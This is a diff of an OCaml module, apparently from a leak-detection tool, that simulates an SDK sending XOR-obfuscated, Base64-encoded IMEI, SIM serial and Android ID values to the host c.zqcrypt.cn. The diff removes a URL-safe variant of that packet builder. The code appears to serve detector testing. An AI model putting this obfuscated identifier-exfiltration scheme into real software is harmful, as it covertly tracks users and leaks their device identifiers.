@@ -2,7 +2,6 @@ module Prng = Leakdetect_util.Prng
 module Base64 = Leakdetect_util.Base64
 module Http = Leakdetect_http
 module Url = Leakdetect_net.Url
-module Sensitive = Leakdetect_core.Sensitive
 
 let host = "c.zqcrypt.cn"
 let service_ip = Leakdetect_net.Ipv4.of_octets 61 147 8 21
@@ -19,8 +18,6 @@ let xor_crypt s =
   let ks = keystream (String.length s) in
   String.init (String.length s) (fun i ->
       Char.chr (Char.code s.[i] lxor Char.code ks.[i]))
-
-let leaked_kinds = [ Sensitive.Android_id; Sensitive.Imei; Sensitive.Sim_serial ]
 
 let headers package =
   Http.Headers.of_list
@@ -46,20 +43,6 @@ let leak_packet rng device ~package =
   in
   let body =
     Url.encode_query [ ("v", "2"); ("d", Base64.encode (xor_crypt plaintext)) ]
-  in
-  post package body
-
-let leak_packet_b64url rng device ~package =
-  let plaintext =
-    Printf.sprintf "imei=%s&iccid=%s&aid=%s&n=%d" device.Device.imei
-      device.Device.sim_serial device.Device.android_id
-      (Prng.int rng 1_000_000_000)
-  in
-  (* URL-safe, unpadded: what a module calling android.util.Base64 with
-     URL_SAFE|NO_PADDING emits.  Same keystream, so the invariant
-     ciphertext prefix still re-encodes to an invariant substring. *)
-  let body =
-    Url.encode_query [ ("v", "2"); ("d", Base64.encode_url (xor_crypt plaintext)) ]
   in
   post package body
 
